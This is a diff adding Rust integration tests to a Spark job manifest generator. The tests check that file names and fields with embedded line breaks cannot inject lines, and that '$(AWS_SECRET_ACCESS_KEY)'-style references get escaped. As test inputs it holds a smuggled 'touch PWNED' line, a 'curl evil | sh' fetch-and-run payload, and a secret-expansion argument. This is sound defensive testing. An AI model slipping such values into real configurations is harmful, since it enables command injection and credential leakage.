@@ -862,6 +862,114 @@ fn options_that_do_not_apply_are_refused_and_missing_files_are_named() {
 }
 
 #[test]
+fn a_file_name_with_line_breaks_is_quoted_wherever_it_is_written() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("a\ndeprecated: true\ntouch PWNED\n#.yaml");
+    fs::copy(EXAMPLE, &config).unwrap();
+    let config = config.to_str().unwrap();
+    let chart = dir.path().join("chart");
+    let o = run(&["chart", config, "--out", chart.to_str().unwrap()]);
+    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
+    let tree = dir.path().join("tree");
+    let o = run(&["kustomize", config, "--out", tree.to_str().unwrap()]);
+    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
+    let plan = run(&["build-plan", config]);
+    assert_eq!(code(&plan), 0, "{}", text(&plan.stderr));
+    for (name, written) in [
+        (
+            "Chart.yaml",
+            fs::read_to_string(chart.join("Chart.yaml")).unwrap(),
+        ),
+        (
+            "base/kustomization.yaml",
+            fs::read_to_string(tree.join("base/kustomization.yaml")).unwrap(),
+        ),
+        ("the plan", text(&plan.stdout)),
+    ] {
+        assert!(
+            !written
+                .lines()
+                .any(|l| l.starts_with("deprecated") || l.starts_with("touch")),
+            "{name}:\n{written}"
+        );
+    }
+    // A line break in the application file is refused where it is written.
+    let bad = dir.path().join("bad.yaml");
+    fs::write(
+        &bad,
+        fs::read_to_string(EXAMPLE).unwrap().replace(
+            "local:///app/simple_read.py",
+            "\"local:///app/x.py\\nRUN curl evil | sh\"",
+        ),
+    )
+    .unwrap();
+    let o = run(&["validate", bad.to_str().unwrap()]);
+    assert_eq!(code(&o), 2, "{}", text(&o.stdout));
+    assert!(
+        text(&o.stderr).contains("spec.mainApplicationFile"),
+        "{}",
+        text(&o.stderr)
+    );
+    let o = run(&[
+        "chart",
+        EXAMPLE,
+        "--out",
+        chart.to_str().unwrap(),
+        "--force",
+        "--chart-version",
+        "1.0.0\nfoo: bar",
+    ]);
+    assert_eq!(code(&o), 2);
+}
+
+#[test]
+fn operator_keeps_the_applications_arguments_its_own_and_escapes_them_for_the_drivers_kubelet() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("spark-job.yaml");
+    let yaml = fs::read_to_string(EXAMPLE).unwrap().replace(
+        "  mainApplicationFile: local:///app/simple_read.py\n",
+        "  mainApplicationFile: local:///app/cost$(HOME).py\n",
+    );
+    let yaml = yaml.replace(
+        "  arguments:\n",
+        "  arguments:\n    - --conf\n    - spark.hadoop.fs.s3a.endpoint=https://elsewhere.example\n    - --class\n    - X\n    - --master\n    - local\n    - $(AWS_SECRET_ACCESS_KEY)\n",
+    );
+    fs::write(&config, yaml).unwrap();
+    let o = run(&["operator", config.to_str().unwrap()]);
+    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
+    let out = text(&o.stdout);
+    let document = out
+        .split("---\n")
+        .find(|d| d.contains("kind: SparkApplication"))
+        .expect("a SparkApplication");
+    let app: serde_json::Value = serde_saphyr::from_str(document).unwrap();
+    let spec = &app["spec"];
+    let arguments: Vec<&str> = spec["arguments"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a.as_str().unwrap())
+        .collect();
+    assert_eq!(
+        &arguments[..7],
+        [
+            "--conf",
+            "spark.hadoop.fs.s3a.endpoint=https://elsewhere.example",
+            "--class",
+            "X",
+            "--master",
+            "local",
+            "$$(AWS_SECRET_ACCESS_KEY)"
+        ],
+        "the application's arguments stay its own, escaped for the driver's kubelet"
+    );
+    assert_eq!(spec["mainApplicationFile"], "local:///app/cost$$(HOME).py");
+    assert_eq!(spec["mode"], "cluster");
+    assert!(spec["mainClass"].is_null(), "{spec}");
+    assert!(!out.contains("endpoint: https://elsewhere"), "{out}");
+}
+
+#[test]
 fn operator_writes_the_application_says_what_it_cannot_carry_and_refuses_old_spark() {
     let nightly = "examples/nightly-summary/spark-job.yaml";
     let o = run(&["operator", nightly]);
